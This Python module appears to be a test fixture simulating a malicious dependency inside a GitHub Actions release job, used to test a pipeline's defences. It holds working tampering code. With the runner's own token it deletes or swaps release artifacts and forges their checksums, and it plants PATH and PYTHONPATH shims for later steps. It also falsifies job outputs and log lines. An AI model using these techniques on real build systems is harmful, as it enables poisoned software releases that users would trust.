"""What a hostile dependency does when it is imported in a release; see `test_attacks`.

Its source becomes a module of that dependency: standard library only.
"""

import hashlib
import io
import json
import os
import pathlib
import urllib.request
import zipfile

SERVICE = "twirp/github.actions.results.api.v1.ArtifactService/"


def ask(method: str, **body: object) -> dict:  # type: ignore[type-arg]
    """Call the run's artifact service with the runner's own token."""
    request = urllib.request.Request(
        os.environ["ACTIONS_RESULTS_URL"] + SERVICE + method,
        json.dumps(body).encode(),
        {
            "Authorization": f"Bearer {os.environ['ACTIONS_RUNTIME_TOKEN']}",
            "Content-Type": "application/json",
        },
    )
    with urllib.request.urlopen(request, timeout=60) as answer:
        return json.load(answer)  # type: ignore[no-any-return]


def read(name: str) -> dict[str, bytes]:
    """The files of an artifact."""
    where = ask("GetSignedArtifactURL", name=name)["signed_url"]
    with urllib.request.urlopen(where, timeout=60) as answer:
        archive = zipfile.ZipFile(io.BytesIO(answer.read()))
    return {entry: archive.read(entry) for entry in archive.namelist()}


def write(name: str, files: dict[str, bytes]) -> None:
    """Make an artifact of a name, instead of the one that is there."""
    if any(item["name"] == name for item in ask("ListArtifacts")["artifacts"]):
        ask("DeleteArtifact", name=name)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for entry, data in files.items():
            archive.writestr(entry, data)
    where = ask("CreateArtifact", name=name, version=4)["signed_upload_url"]
    put = urllib.request.Request(where, packed.getvalue(), method="PUT")
    urllib.request.urlopen(put, timeout=60).close()
    digest = hashlib.sha256(packed.getvalue()).hexdigest()
    ask("FinalizeArtifact", name=name, size=str(len(packed.getvalue())), hash=f"sha256:{digest}")


def other_files() -> dict[str, bytes]:
    """The distributions with one more module in the wheel."""
    files = read("distributions")
    for name, data in files.items():
        if name.endswith(".whl"):
            packed = io.BytesIO(data)
            with zipfile.ZipFile(packed, "a") as wheel:
                wheel.writestr("demo_pkg/other.py", "")
            files[name] = packed.getvalue()
    return files


def replace_distributions() -> None:
    """Put other files in the place of the distributions, and their hashes where hashes were."""
    files = other_files()
    write("distributions", files)
    sums = "".join(f"{hashlib.sha256(data).hexdigest()}  {name}\n" for name, data in files.items())
    write("checksums", {"SHA256SUMS": sums.encode()})


def delete_distributions() -> None:
    """Delete the distributions, if this import is the first."""
    if any(item["name"] == "distributions" for item in ask("ListArtifacts")["artifacts"]):
        ask("DeleteArtifact", name="distributions")


def empty_distributions() -> None:
    """Leave an artifact with nothing in it."""
    write("distributions", {})


def shadow_distributions() -> None:
    """Make another artifact of other files."""
    write("distributions-1", other_files())


def spoil_the_runner() -> None:
    """Leave files, variables and programs for the later steps of the job."""
    for wheel in pathlib.Path(os.environ["GITHUB_WORKSPACE"]).glob("dist/*"):
        wheel.write_bytes(b"")
    shims = pathlib.Path(os.environ["GITHUB_WORKSPACE"], "shims")
    shims.mkdir(exist_ok=True)
    (shims / "uv").write_text("#!/bin/sh\nexit 0\n")
    (shims / "uv").chmod(0o755)
    (shims / "packaging.py").write_text("raise SystemExit('steered')")
    for variable, line in {
        "GITHUB_PATH": str(shims),
        "GITHUB_ENV": f"HASHES=\nPYTHONPATH={shims}\nUV_NO_INDEX=1",
        "GITHUB_OUTPUT": "artifact-id=\nhashes=",
        "GITHUB_STEP_SUMMARY": f"{os.environ['GITHUB_JOB']} is spoiled",
    }.items():
        if path := os.environ.get(variable):
            with pathlib.Path(path).open("a") as file:
                file.write(f"{line}\n")


def change_wheels() -> None:
    """Change the wheels of a job, its outputs and what its log says, and the artifact of another platform.

    It waits for that one, if not for ever.
    """
    here = pathlib.Path(os.environ["GITHUB_WORKSPACE"], "wheels")
    for wheel in here.iterdir():
        wheel.write_bytes(b"other")
    hashes = "".join(f"{hashlib.sha256(b'other').hexdigest()}  {wheel.name}\n" for wheel in here.iterdir())
    print("Handed on: " + json.dumps({"artifact": "1", "hashes": hashes.strip()}), flush=True)
    with pathlib.Path(os.environ["GITHUB_OUTPUT"]).open("a") as file:
        file.write("windows-ARM64=1\nlinux-x86_64=1\nartifact=1\nartifact-id=1\nhashes=\n")
    other = "wheels-linux-x86_64"
    for _ in range(5000):
        if any(item["name"] == other for item in ask("ListArtifacts")["artifacts"]):
            break
    write(other, {name: data + b"other" for name, data in read(other).items()})
    print("The wheels are changed")
